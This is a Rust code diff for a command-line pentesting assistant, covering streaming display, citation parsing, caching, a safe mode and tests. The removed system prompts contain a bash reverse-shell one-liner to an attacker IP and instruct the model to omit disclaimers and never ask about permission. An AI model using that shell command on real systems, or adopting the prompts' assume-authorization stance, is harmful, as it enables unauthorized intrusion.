                 } else {
                     let mut buffer = line_buffer_clone.lock().unwrap();
                     let mut in_code = in_code_block_clone.lock().unwrap();
@@ -234,7 +1010,7 @@ impl InteractiveSession {
                             progress.finish_and_clear();
                         }
                         Display::stream_box_header("RESPONSE");
-                        print!("{} ", "│".cyan());
+                        print!("{}", Display::box_prefix());
                         io::stdout().flush().unwrap();
                         *box_header_printed = true;
                     }
@@ -242,7 +1018,7 @@ impl InteractiveSession {
                     for ch in chunk.chars() {
                         if ch == '\n' {
                             // Check if we've hit the [SOURCES] section
-                            if buffer.trim() == "[SOURCES]" {
+                            if buffer.trim() == SOURCES_MARKER {
                                 *sources_started = true;
                                 if !*box_closed {
                                     println!();
@@ -251,7 +1027,7 @@ impl InteractiveSession {
                                     *box_closed = true;
                                 }
 
-                                if !*sources_header_printed {
+                                if !*sources_header_printed && !no_sources {
                                     Display::print_sources_header(
                                         &provider_name,
                                         &model_name,
@@ -264,12 +1040,9 @@ impl InteractiveSession {
                                 continue;
                             }
 
-                            // If we're in sources section, print links with animation
+                            // Links are printed once the response is complete, when
+                            // the provider's citations (if any) are known
                             if *sources_started {
-                                let line = buffer.trim();
-                                if let Some(stripped) = line.strip_prefix("- ") {
-                                    Display::print_link_animated(stripped);
-                                }
                                 buffer.clear();
                                 continue;
                             }
@@ -284,13 +1057,19 @@ impl InteractiveSession {
                                 Display::print_line_animated(&buffer, false, false);
                             }
                             buffer.clear();
-                            print!("{} ", "│".cyan());
+                            print!("{}", Display::box_prefix());
                             io::stdout().flush().unwrap();
                         } else {
                             buffer.push(ch);
                         }
                     }
                 }
+
+                if stop {
+                    ControlFlow::Break(())
+                } else {
+                    ControlFlow::Continue(())
+                }
             }),
         )?;
 
@@ -299,20 +1078,12 @@ impl InteractiveSession {
             let buffer = line_buffer.lock().unwrap();
             let box_closed = box_closed.lock().unwrap();
 
-            if !buffer.is_empty() {
-                let sources_started = sources_started.lock().unwrap();
-                if *sources_started {
-                    let line = buffer.trim();
-                    if let Some(stripped) = line.strip_prefix("- ") {
-                        Display::print_link_animated(stripped);
-                    }
+            if !buffer.is_empty() && !*sources_started.lock().unwrap() {
+                let in_code = in_code_block.lock().unwrap();
+                if *in_code {
+                    Display::print_line_animated(&buffer, false, true);
                 } else {
-                    let in_code = in_code_block.lock().unwrap();
-                    if *in_code {
-                        Display::print_line_animated(&buffer, false, true);
-                    } else {
-                        Display::print_line_animated(&buffer, false, false);
-                    }
+                    Display::print_line_animated(&buffer, false, false);
                 }
             }
 
@@ -321,9 +1092,32 @@ impl InteractiveSession {
                 Display::stream_box_footer();
             }
 
+            // A reference list the model numbered only becomes sources once cleaned up
+            let response = full_response.lock().unwrap();
+            let response = self.clean_citations(&response);
+            let sources = response_sources(&response, &self.provider.citations());
+            if !sources.is_empty() && !no_sources {
+                if !*sources_header_printed.lock().unwrap() {
+                    println!();
+                    Display::print_sources_header(
+                        self.provider.name(),
+                        self.provider.model(),
+                        self.provider.searches_web(),
+                    );
+                }
+                for (description, url) in &sources {
+                    Display::print_link_animated(&format!("{}: {}", description, url));
+                }
+            }
+
             println!();
-        } else if self.context.quiet {
-            println!();
+        } else {
+            if let Some(text) = plain_filter.and_then(|filter| filter.lock().unwrap().finish()) {
+                print!("{}", text);
+            }
+            if self.context.quiet && ndjson_filter.is_none() {
+                println!();
+            }
         }
 
         // Properly finish progress bar before returning
@@ -331,7 +1125,30 @@ impl InteractiveSession {
             pb.finish();
         }
 
-        let response = full_response.lock().unwrap().clone();
+        let response = self
+            .clean_citations(&full_response.lock().unwrap())
+            .into_owned();
+
+        // A blank response is retried by the caller, so it gets no `done` event
+        if let Some(filter) = ndjson_filter {
+            if let Some(text) = filter.lock().unwrap().finish() {
+                ndjson::emit(&NdjsonEvent::Chunk { text: &text });
+            }
+            if !response.trim().is_empty() {
+                let usage = ndjson::Usage {
+                    prompt_tokens: estimate_tokens(&messages),
+                    completion_tokens: estimate_tokens(&[Message::assistant(response.as_str())]),
+                };
+                let sources = response_sources(&response, &self.provider.citations());
+                ndjson::emit(&NdjsonEvent::done(
+                    &sources,
+                    self.provider.name(),
+                    self.provider.model(),
+                    Some(usage),
+                ));
+            }
+        }
+
         Ok(response)
     }
 
@@ -345,13 +1162,7 @@ impl InteractiveSession {
         use std::sync::{Arc, Mutex};
 
         // Build conversation with system prompt
-        let system_prompt = if self.context.learn {
-            Self::create_learn_system_prompt()
-        } else {
-            Self::create_system_prompt()
-        };
-
-        let messages = vec![Message::system(system_prompt), Message::user(query)];
+        let messages = vec![Message::system(self.system_prompt()), Message::user(query)];
 
         // Create progress bar
         let pb = if self.context.should_show_progress() && !self.context.no_tty {
@@ -417,7 +1228,7 @@ impl InteractiveSession {
                             progress.finish_and_clear();
                         }
                         Display::stream_box_header("RESPONSE");
-                        print!("{} ", "│".cyan());
+                        print!("{}", Display::box_prefix());
                         io::stdout().flush().unwrap();
                         *box_header_printed = true;
                     }
@@ -468,13 +1279,15 @@ impl InteractiveSession {
                                 Display::print_line_animated(&buffer, false, false);
                             }
                             buffer.clear();
-                            print!("{} ", "│".cyan());
+                            print!("{}", Display::box_prefix());
                             io::stdout().flush().unwrap();
                         } else {
                             buffer.push(ch);
                         }
                     }
                 }
+
+                ControlFlow::Continue(())
             }),
         )?;
 
@@ -520,284 +1333,92 @@ impl InteractiveSession {
         Ok(())
     }
 
-    /// Extract sources from response and return (clean_response, sources_list)
-    #[allow(dead_code)]
-    fn extract_sources(response: &str) -> (String, Vec<String>) {
-        if let Some(sources_pos) = response.find("[SOURCES]") {
-            let (clean_content, sources_section) = response.split_at(sources_pos);
-
-            // Parse sources section
-            let mut sources = Vec::new();
-            for line in sources_section.lines().skip(1) {
-                // Skip "[SOURCES]" line
-                let line = line.trim();
-                if let Some(stripped) = line.strip_prefix('-') {
-                    // Remove leading "- " and add to sources
-                    sources.push(stripped.trim().to_string());
-                }
-            }
+    /// System prompt for this session's mode, safety setting, language and `--system` text
+    fn system_prompt(&self) -> String {
+        SystemPrompt::default()
+            .learn(self.context.learn)
+            .safe(self.safe)
+            .json(self.context.json_response)
+            .language(self.language.as_deref())
+            .trusted_sources(&self.trusted_sources)
+            .extra(self.context.system.as_deref())
+            .build()
+    }
+}
 
-            (clean_content.trim().to_string(), sources)
-        } else {
-            // No sources section found
-            (response.to_string(), Vec::new())
-        }
-    }
-
-    fn create_system_prompt() -> String {
-        r#"You are Cyx, an elite cybersecurity command companion for penetration testers and security students.
-
-CONTEXT & ETHICS:
-The user is either:
-1. A professional penetration tester with authorized access
-2. A security student learning in controlled environments
-3. A researcher working on their own systems or with explicit permission
-
-All techniques discussed are for:
-- Authorized penetration testing engagements
-- Capture The Flag (CTF) competitions
-- Educational purposes in controlled labs
-- Security research with proper authorization
-- Defensive security understanding
-
-RESPONSE PHILOSOPHY:
-You are a COMMAND-FIRST assistant. Practitioners need fast, accurate commands - not lectures.
-Think of yourself as an instant reference manual, not a teacher.
-
-CRITICAL RULES:
-1. COMMAND FIRST - Always lead with the exact command/code
-2. ZERO FLUFF - No introductions, no "certainly", no pleasantries
-3. ONE-LINERS - Prefer single powerful commands over explanations
-4. BREVITY - Max 1-2 sentences explanation per command
-5. PRACTICAL ONLY - Skip theory unless explicitly requested
-6. NO DISCLAIMERS - User authorization is assumed
-7. CODE BLOCKS - Always use ```bash, ```python, ```powershell etc.
-
-RESPONSE FORMAT (STRICT):
-```bash
-command --flags target
-```
-What it does (1 sentence). When to use it (1 sentence if needed).
-
-KNOWLEDGE AREAS (prioritize these):
-- Network scanning (nmap, masscan, rustscan)
-- Web application testing (burp, sqlmap, ffuf, gobuster)
-- Password attacks (hydra, john, hashcat, crackmapexec)
-- Exploitation (metasploit, msfvenom, exploit-db)
-- Post-exploitation (mimikatz, bloodhound, winPEAS, linPEAS)
-- Privilege escalation (GTFOBins, LOLBAS, sudo, SUID)
-- Active Directory (bloodhound, powerview, rubeus, certutil)
-- Wireless (aircrack-ng, wifite, kismet)
-- Reverse engineering (ghidra, radare2, gdb)
-- OSINT (amass, subfinder, theHarvester)
-
-EXAMPLES OF PERFECT RESPONSES:
-
-Q: nmap stealth scan
-A:
-```bash
-nmap -sS <target>
-```
-TCP SYN scan - doesn't complete handshake, harder to detect. Requires root.
-
-Q: sql injection test
-A:
-```bash
-sqlmap -u "http://target/page?id=1" --batch --dbs
-```
-Auto-detects and extracts databases. --batch for no prompts.
-
-Q: reverse shell
-A:
-```bash
-bash -i >& /dev/tcp/10.10.10.10/4444 0>&1
-```
-One-liner reverse shell to attacker IP:port. Run nc -lvnp 4444 on attacker first.
-
-ANTI-PATTERNS (NEVER DO THIS):
-- "Certainly! I'd be happy to help..."
-- "Before we begin, it's important to note..."
-- Long explanations before commands
-- Asking if user has permission
-- Disclaimers about legal/ethical use
-- Tutorial-style explanations
-
-CITATIONS & SOURCES:
-CRITICAL: NEVER use numbered references like [1], [2], [3] in your responses.
-
-At the very END of your response, after all content, include a sources section in this EXACT format:
-
-[SOURCES]
-- Description: Full URL
-- Description: Full URL
-
-Example:
-[SOURCES]
-- nmap documentation: https://nmap.org/book/
-- RFC 793 (TCP): https://www.ietf.org/rfc/rfc793.txt
-
-Keep your main response clean without inline citations. Save ALL source links for the [SOURCES] section at the end.
-
-REMEMBER: Pentesters are under time pressure. Every second counts. Fast, accurate commands save engagements."#.to_string()
-    }
-
-    fn create_learn_system_prompt() -> String {
-        r#"You are Cyx in LEARN MODE - an educational cybersecurity command companion for penetration testers and security students.
-
-CONTEXT & ETHICS:
-The user is either:
-1. A professional penetration tester with authorized access
-2. A security student learning in controlled environments
-3. A researcher working on their own systems or with explicit permission
-
-All techniques discussed are for:
-- Authorized penetration testing engagements
-- Capture The Flag (CTF) competitions
-- Educational purposes in controlled labs
-- Security research with proper authorization
-- Defensive security understanding
-
-RESPONSE PHILOSOPHY - LEARN MODE:
-In learn mode, you provide BOTH the command AND a detailed educational breakdown.
-Help the user understand not just WHAT to run, but HOW it works and WHY.
-
-RESPONSE FORMAT (STRICT):
-
-First, provide the command as usual:
-```bash
-command --flags target
-```
-Brief explanation (1-2 sentences).
-
-Then, provide a detailed breakdown under these headers:
-
-Tool: [tool name]
-  Detailed description, author, purpose, license
-
-Flags:
-  --flag-name    Detailed explanation of what this flag does
-                 - How it works technically
-                 - Requirements or prerequisites
-                 - Performance characteristics
-
-How it works:
-  Step-by-step technical explanation of the process
-
-Advantages:
-  - Why you'd use this approach
-  - Performance benefits
-  - Stealth considerations
-
-Disadvantages:
-  - Limitations
-  - Detection risks
-  - Requirements that might not be met
-
-When to use:
-  Specific scenarios and use cases
-
-Alternatives:
-  Other commands/approaches and when to use them instead
-
-Example usage:
-  Real-world examples with actual syntax
-
-IMPORTANT REQUIREMENTS:
-1. Be ACCURATE - Only provide factually correct information
-2. CITE SOURCES - NEVER use numbered references like [1][2][3]. Instead:
-   - Use full URLs: "nmap documentation (https://nmap.org/book/)"
-   - Use clear names: "According to RFC 793 (TCP specification)..."
-   - Use inline citations: "Source: HackTricks (book.hacktricks.xyz)"
-   - Provide actual URLs or document names, NOT bracketed numbers
-3. FLAG BREAKDOWN - Explain every flag in detail
-4. TECHNICAL DEPTH - Explain how things work at a protocol/system level
-5. PRACTICAL EXAMPLES - Show real-world usage with actual syntax
-6. ALTERNATIVES - Always mention other tools/techniques
-7. CONTEXT - Explain when to use vs when not to use
-
-EXAMPLE LEARN MODE RESPONSE:
-
-Q: nmap stealth scan
-A:
-```bash
-nmap -sS <target>
-```
-TCP SYN scan - doesn't complete handshake, harder to detect. Requires root.
-
-Tool: nmap (Network Mapper)
-  Industry-standard network scanner for reconnaissance and security auditing
-  Created by Gordon Lyon (Fyodor)
-  Open source (GPL license)
-  Available on Linux, Windows, macOS
-
-Flags:
-  -sS    TCP SYN Scan (Stealth Scan)
-         - Sends TCP SYN packet to each target port
-         - Waits for SYN-ACK (open) or RST (closed) response
-         - Sends RST to close connection before handshake completes
-         - Requires root/sudo for raw socket access
-         - Faster than full TCP connect scan (-sT)
-         - May not be logged by some older systems
-
-  <target>  Target specification
-           - Single IP: 192.168.1.1
-           - Hostname: example.com
-           - CIDR range: 10.0.0.0/24
-           - Multiple: 192.168.1.1-50
-
-How it works:
-  1. Sends TCP SYN packet to target port
-  2. If port open: receives SYN-ACK, marks as open, sends RST
-  3. If port closed: receives RST, marks as closed
-  4. If filtered: no response or ICMP unreachable
-
-Advantages:
-  - Fast: doesn't complete full TCP three-way handshake
-  - Stealthy: may not appear in application logs
-  - Reliable: accurately distinguishes open/closed/filtered states
-  - Default scan type for most nmap users
-
-Disadvantages:
-  - Requires root/sudo privileges (raw sockets)
-  - Can be detected by modern IDS/IPS systems
-  - Some firewalls may block or rate-limit SYN packets
-  - Won't bypass SYN flood protection
-
-When to use:
-  - Default choice for most port scans
-  - When you have root access
-  - Initial network reconnaissance
-  - When you need speed over stealth
-
-Alternatives:
-  -sT    TCP connect scan (no root needed, but slower and logged)
-  -sN    TCP NULL scan (may bypass some firewalls)
-  -sF    TCP FIN scan (may bypass some firewalls)
-  -sA    TCP ACK scan (for firewall rule mapping)
-
-Example usage:
-  nmap -sS 192.168.1.100              # Single host
-  nmap -sS 192.168.1.0/24             # Entire subnet
-  nmap -sS -p 22,80,443 example.com   # Specific ports
-  nmap -sS -p- example.com            # All 65535 ports
-
-[SOURCES]
-- nmap official documentation: https://nmap.org/book/
-- RFC 793 (TCP specification): https://www.ietf.org/rfc/rfc793.txt
-- nmap man page: https://linux.die.net/man/1/nmap
-
-CRITICAL - CITATION FORMAT:
-NEVER use numbered references like [1], [2], [3] anywhere in your response.
-
-At the very END of your response, after ALL content, include sources in this EXACT format:
-
-[SOURCES]
-- Description: Full URL
-- Description: Full URL
-
-Keep your main response body clean. Save ALL source URLs for the [SOURCES] section at the very end.
-
-REMEMBER: LEARN MODE is about education. Be thorough, accurate, and cite sources with FULL URLs in the [SOURCES] section at the end."#.to_string()
+/// Load up to `limit` related cache entries as prior user/assistant turns.
+/// The closest match is placed last so it sits right before the new query.
+fn related_history(storage: &CacheStorage, normalized: &str, limit: usize) -> Result<Vec<Message>> {
+    if limit == 0 {
+        return Ok(Vec::new());
+    }
+
+    let floor = storage
+        .similarity_metric()
+        .threshold_from_cosine(CONTEXT_SIMILARITY_FLOOR);
+    let related = storage.search_similar(normalized, floor, limit)?;
+    Ok(related
+        .into_iter()
+        .rev()
+        .flat_map(|(cached, _)| {
+            [
+                Message::user(cached.query_original.clone()),
+                Message::assistant(strip_sources(&cached.response)),
+            ]
+        })
+        .collect())
+}
+
+/// Clip a streamed chunk to the characters left under `max_chars` (with `seen`
+/// already received) and append the truncation marker; `None` if the chunk fits
+fn clip_chunk(chunk: &str, seen: usize, max_chars: usize) -> Option<String> {
+    let remaining = max_chars.saturating_sub(seen);
+    let (cut, _) = chunk.char_indices().nth(remaining)?;
+    Some(format!(
+        "{}\n\n[truncated at {} characters]",
+        &chunk[..cut],
+        max_chars
+    ))
+}
+
+/// A cache entry's structured sources, parsed from the response for legacy entries
+fn cached_sources(cached: &CachedQuery) -> Vec<(String, String)> {
+    if cached.sources.is_empty() {
+        extract_sources(&cached.response)
+    } else {
+        cached.sources.clone()
+    }
+}
+
+/// Format a cache entry's sources as display links, parsing legacy entries that
+/// still carry an inline `[SOURCES]` section
+fn cached_source_links(cached: &CachedQuery) -> Vec<String> {
+    cached_sources(cached)
+        .iter()
+        .map(|(description, url)| format!("{}: {}", description, url))
+        .collect()
+}
+
+/// Box title and text of the part of a response to show: with `--section` just that
+/// learn mode section, or the whole body (with a warning) when the model left it out
+fn displayed_response<'a>(response: &'a str, context: &CliContext) -> (String, Cow<'a, str>) {
+    let body = strip_sources(response);
+    let whole = ("RESPONSE".to_string(), Cow::Borrowed(body));
+    let Some(section) = &context.section else {
+        return whole;
+    };
+
+    match extract_section(body, section) {
+        Some(text) => (section.to_uppercase(), Cow::Owned(text)),
+        None => {
+            if !context.quiet {
+                Display::warning(&format!(
+                    "The answer has no \"{}\" section, showing all of it",
+                    section
+                ));
+            }
+            whole
+        }
     }
 }
 
@@ -821,3 +1442,373 @@ fn format_duration_ago(datetime: &chrono::DateTime<chrono::Utc>) -> String {
         format!("{} month{} ago", months, if months == 1 { "" } else { "s" })
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::llm::ChunkHandler;
+    use std::collections::VecDeque;
+    use std::sync::Mutex;
+
+    /// Provider that replays canned responses and counts requests
+    struct ScriptedProvider {
+        responses: Mutex<VecDeque<String>>,
+        calls: Mutex<usize>,
+    }
+
+    impl ScriptedProvider {
+        fn new(responses: &[&str]) -> Self {
+            Self {
+                responses: Mutex::new(responses.iter().map(|r| r.to_string()).collect()),
+                calls: Mutex::new(0),
+            }
+        }
+    }
+
+    impl LLMProvider for ScriptedProvider {
+        fn send_message(&self, _messages: &[Message]) -> Result<String> {
+            *self.calls.lock().unwrap() += 1;
+            Ok(self
+                .responses
+                .lock()
+                .unwrap()
+                .pop_front()
+                .unwrap_or_default())
+        }
+
+        fn send_message_stream(
+            &self,
+            messages: &[Message],
+            mut on_chunk: ChunkHandler,
+        ) -> Result<String> {
+            let response = self.send_message(messages)?;
+            let _ = on_chunk(&response);
+            Ok(response)
+        }
+
+        fn name(&self) -> &str {
+            "Scripted"
+        }
+
+        fn model(&self) -> &str {
+            "test"
+        }
+
+        fn searches_web(&self) -> bool {
+            false
+        }
+
+        fn prompt_budget(&self) -> usize {
+            8192
+        }
+    }
+
+    fn scripted_session(responses: &[&str], retries: u32) -> InteractiveSession {
+        InteractiveSession {
+            context: CliContext {
+                quiet: true,
+                ..Default::default()
+            },
+            provider: Box::new(ScriptedProvider::new(responses)),
+            history: Vec::new(),
+            empty_response_retries: retries,
+            slow_response_after: None,
+            language: None,
+            safe: false,
+            images: Vec::new(),
+            trusted_sources: Vec::new(),
+            enforce_citations: true,
+        }
+    }
+
+    #[test]
+    fn test_empty_response_is_retried() {
+        let session = scripted_session(&["", "nmap -sU target"], 1);
+        assert_eq!(
+            session.fetch_response("nmap udp scan").unwrap(),
+            "nmap -sU target"
+        );
+    }
+
+    #[test]
+    fn test_empty_response_errors_after_retries() {
+        let session = scripted_session(&[" \n", "", "", "too late"], 2);
+        let err = session.fetch_response("nmap udp scan").unwrap_err();
+        assert!(err
+            .to_string()
+            .contains("empty response after 3 attempt(s)"));
+    }
+
+    #[test]
+    fn test_max_chars_truncates_stream() {
+        let mut session = scripted_session(&["nmap -sS target"], 0);
+        session.context.max_chars = Some(7);
+        assert_eq!(
+            session.stream_response("nmap stealth scan").unwrap(),
+            "nmap -s\n\n[truncated at 7 characters]"
+        );
+
+        // Multi-byte characters count once; a chunk that just fits is left alone
+        assert_eq!(
+            clip_chunk("héllo wörld", 3, 8).as_deref(),
+            Some("héllo\n\n[truncated at 8 characters]")
+        );
+        assert_eq!(clip_chunk("héllo", 3, 8), None);
+    }
+
+    #[test]
+    fn test_sources_split_across_chunks() {
+        let response = "Use nmap -sS [1].\n\n[SOURCES]\n- nmap docs: https://nmap.org/book/\n";
+
+        // The boxed renderer, then plain output with the sources hidden
+        for (quiet, no_sources) in [(false, false), (true, true)] {
+            let context = CliContext {
+                quiet,
+                no_tty: quiet,
+                no_sources,
+                ..Default::default()
+            };
+            let provider = MockProvider::new(response).with_chunk_chars(4);
+            let session =
+                InteractiveSession::with_provider(Config::default(), context, Box::new(provider))
+                    .unwrap();
+
+            let streamed = session
+                .process_query_and_return("nmap stealth scan")
+                .unwrap();
+            assert_eq!(
+                streamed,
+                "Use nmap -sS.\n\n[SOURCES]\n- nmap docs: https://nmap.org/book/"
+            );
+            assert_eq!(
+                extract_sources(&streamed),
+                vec![(
+                    "nmap docs".to_string(),
+                    "https://nmap.org/book/".to_string()
+                )]
+            );
+        }
+    }
+
+    /// Answer `query` through the cache in `dir`; with no `response` the provider
+    /// must not be asked
+    fn cached_one_shot(config: &Config, query: &str, dir: &Path, response: Option<&str>) {
+        cached_one_shot_with(config, CliContext::default(), query, dir, response);
+    }
+
+    /// `cached_one_shot` with extra flags in `context`
+    fn cached_one_shot_with(
+        config: &Config,
+        context: CliContext,
+        query: &str,
+        dir: &Path,
+        response: Option<&str>,
+    ) {
+        let context = CliContext {
+            quiet: true,
+            no_tty: true,
+            ..context
+        };
+        InteractiveSession::answer_through_cache(
+            config.clone(),
+            query,
+            context,
+            dir,
+            |config, context| match response {
+                Some(response) => InteractiveSession::with_provider(
+                    config,
+                    context,
+                    Box::new(MockProvider::new(response)),
+                ),
+                None => anyhow::bail!("provider asked for a cached query: {}", query),
+            },
+        )
+        .unwrap();
+    }
+
+    #[test]
+    fn test_one_shot_cache_path() {
+        let temp = tempfile::TempDir::new().unwrap();
+        let config = Config::default();
+        let response =
+            "Use `nmap -sS 10.0.0.0/24`.\n\n[SOURCES]\n- Nmap docs: https://nmap.org/book/";
+
+        // First query misses and stores the answer
+        cached_one_shot(
+            &config,
+            "nmap syn scan of a subnet",
+            temp.path(),
+            Some(response),
+        );
+        let storage =
+            InteractiveSession::open_cache_at(temp.path(), &config, &CliContext::default())
+                .unwrap();
+        let entries = storage.list_all(None).unwrap();
+        assert_eq!(entries.len(), 1);
+        assert_eq!(entries[0].query_original, "nmap syn scan of a subnet");
+        assert_eq!(entries[0].response, "Use `nmap -sS 10.0.0.0/24`.");
+        assert_eq!(
+            entries[0].sources,
+            vec![(
+                "Nmap docs".to_string(),
+                "https://nmap.org/book/".to_string()
+            )]
+        );
+        assert_eq!(
+            (entries[0].provider.as_str(), entries[0].model.as_str()),
+            ("Demo", "canned")
+        );
+
+        // The identical query hits by hash
+        cached_one_shot(&config, "nmap syn scan of a subnet", temp.path(), None);
+        let stats = storage.stats().unwrap();
+        assert_eq!((stats.hit_count, stats.miss_count), (1, 1));
+
+        // A reworded query hits by similarity (the hash hit count stays put)
+        cached_one_shot(&config, "syn scan a subnet with nmap", temp.path(), None);
+        assert_eq!(storage.list_all(None).unwrap().len(), 1);
+        assert_eq!(storage.stats().unwrap().hit_count, 1);
+    }
+
+    #[test]
+    fn test_one_shot_cache_disabled() {
+        let temp = tempfile::TempDir::new().unwrap();
+        let mut config = Config::default();
+        config.cache.enabled = false;
+
+        cached_one_shot(
+            &config,
+            "nmap syn scan",
+            temp.path(),
+            Some("nmap -sS target"),
+        );
+        cached_one_shot(
+            &config,
+            "nmap syn scan",
+            temp.path(),
+            Some("nmap -sS target"),
+        );
+        assert!(std::fs::read_dir(temp.path()).unwrap().next().is_none());
+    }
+
+    #[test]
+    fn test_safe_mode_bypasses_cache() {
+        let temp = tempfile::TempDir::new().unwrap();
+        let config = Config::default();
+        cached_one_shot(&config, "kerberoasting", temp.path(), Some("Unrestricted"));
+
+        // Neither served the unrestricted answer nor stored under the plain key
+        let safe = CliContext {
+            safe: true,
+            ..Default::default()
+        };
+        cached_one_shot_with(&config, safe, "kerberoasting", temp.path(), Some("Safe"));
+        let mut safe_config = config.clone();
+        safe_config.response.safe_mode = true;
+        cached_one_shot(&safe_config, "kerberoasting", temp.path(), Some("Safe"));
+
+        let storage =
+            InteractiveSession::open_cache_at(temp.path(), &config, &CliContext::default())
+                .unwrap();
+        let entries = storage.list_all(None).unwrap();
+        assert_eq!(entries.len(), 1);
+        assert_eq!(entries[0].response, "Unrestricted");
+        assert_eq!(storage.stats().unwrap().hit_count, 0);
+
+        assert!(
+            InteractiveSession::ensure_cacheable(&safe_config, &CliContext::default()).is_err()
+        );
+    }
+
+    #[test]
+    fn test_system_text_bypasses_cache() {
+        let temp = tempfile::TempDir::new().unwrap();
+        let config = Config::default();
+        let system = CliContext {
+            system: Some("target is Windows Server 2019".to_string()),
+            ..Default::default()
+        };
+        cached_one_shot_with(
+            &config,
+            system.clone(),
+            "dump local hashes",
+            temp.path(),
+            Some("Windows only"),
+        );
+        assert!(!CacheStorage::db_path(temp.path()).exists());
+
+        // A plain query isn't served the custom-prompted answer, and vice versa
+        cached_one_shot(&config, "dump local hashes", temp.path(), Some("Generic"));
+        cached_one_shot_with(
+            &config,
+            system,
+            "dump local hashes",
+            temp.path(),
+            Some("Windows only"),
+        );
+        let storage =
+            InteractiveSession::open_cache_at(temp.path(), &config, &CliContext::default())
+                .unwrap();
+        let entries = storage.list_all(None).unwrap();
+        assert_eq!(entries.len(), 1);
+        assert_eq!(entries[0].response, "Generic");
+        assert_eq!(storage.stats().unwrap().hit_count, 0);
+    }
+
+    #[test]
+    fn test_one_shot_without_usable_cache() {
+        // A file where the cache directory should be: the directory can't be created
+        let temp = tempfile::TempDir::new().unwrap();
+        let cache_dir = temp.path().join("cache");
+        std::fs::write(&cache_dir, "not a directory").unwrap();
+
+        cached_one_shot(
+            &Config::default(),
+            "nmap syn scan",
+            &cache_dir,
+            Some("nmap -sS target"),
+        );
+        assert!(cache_dir.is_file());
+    }
+
+    #[test]
+    fn test_section_shows_part_but_returns_whole_response() {
+        let response = "nmap -sS target\n\nFlags:\n  -sS  SYN scan\n\nHow it works:\n  Sends SYN";
+        let mut session = scripted_session(&[response], 0);
+        session.context.section = Some("Flags".to_string());
+
+        // The full answer is what gets cached
+        assert_eq!(
+            session
+                .process_query_and_return("nmap stealth scan")
+                .unwrap(),
+            response
+        );
+
+        let (title, body) = displayed_response(response, &session.context);
+        assert_eq!(
+            (title.as_str(), body.as_ref()),
+            ("FLAGS", "  -sS  SYN scan")
+        );
+
+        session.context.section = Some("Alternatives".to_string());
+        let (title, body) = displayed_response(response, &session.context);
+        assert_eq!((title.as_str(), body.as_ref()), ("RESPONSE", response));
+    }
+
+    #[test]
+    fn test_cached_markdown() {
+        let storage = CacheStorage::in_memory().unwrap();
+        let response = "Use `nmap -sS target`.\n\n[SOURCES]\n- Nmap docs: https://nmap.org/book/";
+        storage
+            .store("syn scan", "syn scan", "abc123", response, "Groq", "llama")
+            .unwrap();
+        let cached = storage.peek_by_hash("abc123").unwrap().unwrap();
+
+        let markdown = InteractiveSession::cached_markdown(&cached);
+        assert!(markdown.starts_with("# syn scan\n\nUse `nmap -sS target`.\n"));
+        assert!(markdown.contains("## Sources\n\n- [Nmap docs](https://nmap.org/book/)\n"));
+        assert!(!markdown.contains("[SOURCES]"));
+        assert!(markdown.contains("*Groq (llama), cached "));
+    }
+}